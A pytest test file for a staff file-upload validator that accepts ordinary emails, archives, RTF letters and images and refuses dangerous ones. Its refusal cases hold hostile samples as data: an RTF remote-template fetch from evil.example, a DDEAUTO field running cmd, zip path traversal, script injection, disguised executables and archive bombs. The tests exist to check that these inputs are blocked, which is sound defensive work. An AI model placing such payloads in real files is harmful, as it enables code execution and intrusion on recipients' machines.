"""What staff may add that others sent them: it is what its name says and brings no program; nobody else may send it."""

from email.message import EmailMessage
from pathlib import Path

import pytest

from components.uploads import REFUSED, TYPES
from desk.contents import looking
from desk.contents.colleagues import CHECKS, look
from desk.contents.unfit import Unfit
from desk.files import OF_STAFF
from engine.commands import Attach, Refusal
from tests.desk.contents.disguised import DAMAGED, INSIDE, LOCKED, PROGRAM, SWOLLEN, TWO, locked
from tests.desk.making import office
from tests.engine.making import ADA, END, INSPECT, NINE, REPORT
from tests.uploaded import JPEG, PDF, archive, entry, old_word
from tests.uploaded import office as word_file

RUNS = "a program or another archive"
RICH = b"{\\rtf1\\ansi\\b Dear colleague\\b0 , see https://example.org{\\pict\\pngblip 89504e47}}\r\n"


def saved(*streams: str, after: bytes = b"") -> bytes:
    """A message as Outlook saves it."""
    entries = (entry(one) for one in ("Root Entry", "__nameid_version1.0", "__properties_version1.0", *streams))
    made = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(1536, b"\0") + b"".join(entries)
    return made.ljust(-(-len(made) // 512) * 512, b"\0") + after


def email(name: str = "plan.pdf", content: bytes = PDF) -> bytes:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = (
        "ben@example.org",
        "ada@example.org",
        "The plan — übersandt",
    )
    made.set_content("Dear Ada,\nhere it is.\n")
    made.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return made.as_bytes()


SOUND = [
    ("RE FW The plan.msg", saved("__substg1.0_37010102", after=PDF)),
    ("The plan.eml", email()),
    ("The plan.eml", email("forwarded.eml", email())),
    ("plans.zip", archive({"plans/a.pdf": PDF, "plans/b.docx": word_file(), "c.jpg": JPEG, "empty/": b""})),
    ("letter.rtf", RICH),
    ("plan.pdf", PDF),
    ("hole.jpg", JPEG),
]
UNFIT = [
    ("plans.zip", PDF, DAMAGED),
    ("plans.zip", archive({"a.txt": b"a"}) + b"<script>", DAMAGED),
    ("plans.zip", PDF + archive({"a.txt": b"a"}), DAMAGED),
    ("plans.zip", archive({"../../a.txt": b"a"}), DAMAGED),
    ("plans.zip", archive({"run.exe": b"x"}), RUNS),
    ("plans.zip", archive({"a/b/holiday.jpg": PROGRAM}), RUNS),
    ("plans.zip", archive({"more.zip": archive({"a.txt": b"a"})}), RUNS),
    ("plans.zip", archive({"plan.js": b"alert(1)"}), RUNS),
    ("plans.zip", archive({"large.bmp": bytes(13_000_000)}), SWOLLEN),
    ("plans.zip", archive({str(number): b"" for number in range(3_001)}), SWOLLEN),
    ("plans.zip", locked(archive({"a.txt": b"a"})), LOCKED),
    ("mail.msg", old_word(), DAMAGED),
    ("mail.msg", PDF, DAMAGED),
    ("mail.msg", saved(after=PROGRAM.ljust(5_000, b"\0")), RUNS),
    ("mail.eml", b"<html><script>alert(1)</script></html>", DAMAGED),
    ("mail.eml", b"Subject: from nobody\n\nHello", DAMAGED),
    ("mail.eml", PROGRAM, DAMAGED),
    ("mail.eml", b"From: a@example.org\n\n\0\0", DAMAGED),
    ("mail.eml", email("run.scr"), RUNS),
    ("mail.eml", email("holiday.jpg", PROGRAM), RUNS),
    ("letter.rtf", b"<html>", DAMAGED),
    ("letter.rtf", RICH[:-5], DAMAGED),
    ("letter.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", INSIDE),
    ("letter.rtf", b"{\\rtf1{\\*\\template http://evil.example/a.dot}}", "from another place"),
    ("letter.rtf", b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}}', "from another place"),
    ("plan.exe.zip", archive({"a.txt": b"a"}), TWO),
    ("plans.zip", b"", "is empty"),
    ("plans.7z", b"7z\xbc\xaf", "must be a PDF"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), SOUND, ids=[f"{number} {one[0]}" for number, one in enumerate(SOUND)])
def test_what_colleagues_send_is_taken_as_it_is(name: str, data: bytes) -> None:
    taken = look(name, data)

    assert taken.name == name
    assert taken.data == data or Path(name).suffix in looking.CLEANERS
    assert taken.type == TYPES.get(Path(name).suffix, "application/octet-stream")


@pytest.mark.parametrize(("name", "data", "why"), UNFIT, ids=[f"{n} {one[0]} {one[2]}" for n, one in enumerate(UNFIT)])
def test_what_is_not_what_it_is_called_or_brings_a_program_is_not(name: str, data: bytes, why: str) -> None:
    with pytest.raises(Unfit) as refused:
        look(name, data)

    assert why in refused.value.why


def test_an_email_of_many_parts_in_each_other_ends() -> None:
    deep = b"From: a@example.org\nContent-Type: message/rfc822\n\n" * 5_000

    with pytest.raises(Unfit):
        look("mail.eml", deep)


@pytest.mark.parametrize(("name", "data"), [one for one in SOUND if Path(one[0]).suffix in CHECKS])
def test_residents_cannot_send_it(name: str, data: bytes) -> None:
    with pytest.raises(Unfit) as refused:
        looking.look(name, data)

    assert refused.value.why.startswith("must be a PDF, a Word")


def test_what_staff_may_add_is_all_that_can_be_looked_into() -> None:
    assert set(OF_STAFF) == {*looking.CHECKS, *looking.CLEANERS, *CHECKS}


def test_it_joins_a_case_and_is_given_as_bytes_of_no_type(tmp_path: Path) -> None:
    here = office(tmp_path, REPORT + INSPECT + END)
    here.begin("ROA-1")
    content = email()
    mail = here.files.keep_from_staff(ADA.id, "plan.eml", content)

    assert REFUSED not in mail
    here.done(Attach(ADA, NINE, "ROA-1", mail))

    opened = here.files.open(ADA, "ROA-1", str(mail["id"]))
    assert not isinstance(opened, Refusal)
    assert opened == ("plan.eml", "application/octet-stream", content)
